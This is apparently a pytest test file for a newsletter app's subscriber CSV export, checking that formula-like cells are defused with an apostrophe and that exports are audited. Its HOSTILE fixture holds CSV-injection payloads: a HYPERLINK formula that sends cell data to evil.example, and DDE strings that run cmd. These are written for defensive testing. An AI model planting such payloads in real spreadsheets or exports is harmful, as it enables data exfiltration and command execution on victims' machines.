"""A list's subscribers exported as CSV (admin page and CLI): opened again as CSV, every cell
that a spreadsheet would run as a formula starts with an apostrophe; the export is audited."""

from __future__ import annotations

import csv
import io

import pytest
from sqlalchemy import select

from newsletter.extensions import db
from newsletter.models import (
    AuditEvent,
    MailingList,
    Subscriber,
    SubscriberStatus,
    Subscription,
    SubscriptionStatus,
)
from newsletter.spreadsheet import FORMULA_START

HOSTILE = {
    "name": '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "city": "+1+cmd|' /C calc'!A0",
    "phone": "-2+3",
    "team": "@SUM(1+1)*cmd|' /C calc'!A0",
    "note": "\t=1+1",
}


@pytest.fixture
def news(app):
    with app.app_context():
        mailing_list = MailingList(slug="news", name="News")
        people = [
            Subscriber(email="ada@example.org", name="Ada", country="GB",
                       status=SubscriberStatus.active, attributes={"plan": "pro"}),
            Subscriber(email="mallory@example.org", name=HOSTILE["name"],
                       status=SubscriberStatus.active,
                       attributes={k: v for k, v in HOSTILE.items() if k != "name"}),
            Subscriber(email="gone@example.org", status=SubscriberStatus.erased),
        ]
        db.session.add_all([mailing_list, *people])
        db.session.flush()
        db.session.add_all([Subscription(subscriber_id=p.id, list_id=mailing_list.id,
                                         status=SubscriptionStatus.confirmed, source="form")
                            for p in people])
        db.session.commit()
        return mailing_list.id


def check_export(text: str) -> dict[str, dict[str, str]]:
    rows = list(csv.DictReader(io.StringIO(text)))
    for row in rows:
        for value in row.values():
            assert not value.startswith(FORMULA_START), value  # nothing a spreadsheet would run
    return {row["email"]: row for row in rows}


def test_admin_export_defuses_formulas_and_is_audited(app, admin_client, news):
    response = admin_client.get(f"/admin/lists/{news}/export.csv")
    assert response.status_code == 200
    assert response.mimetype == "text/csv"
    assert "news-subscribers.csv" in response.headers["Content-Disposition"]
    rows = check_export(response.get_data(as_text=True))
    assert set(rows) == {"ada@example.org", "mallory@example.org"}  # the erased are left out
    assert rows["ada@example.org"]["plan"] == "pro"
    assert rows["ada@example.org"]["status"] == "confirmed"
    mallory = rows["mallory@example.org"]
    assert {name: mallory[name] for name in HOSTILE} == {k: "'" + v for k, v in HOSTILE.items()}
    with app.app_context():
        [event] = db.session.scalars(select(AuditEvent).where(
            AuditEvent.action == "subscribers.export")).all()
        assert (event.actor, event.subject_id) == ("admin:admin@example.org", str(news))


def test_cli_export_writes_the_same_file(app, runner, tmp_path, news):
    out = tmp_path / "news.csv"
    result = runner.invoke(args=["newsletter", "export", "--list", "news", "--output", str(out)])
    assert result.exit_code == 0, result.output
    with out.open(newline="", encoding="utf-8") as handle:
        rows = check_export(handle.read())
    assert rows["mallory@example.org"]["phone"] == "'-2+3"
    assert runner.invoke(args=["newsletter", "export", "--list", "nope"]).exit_code != 0
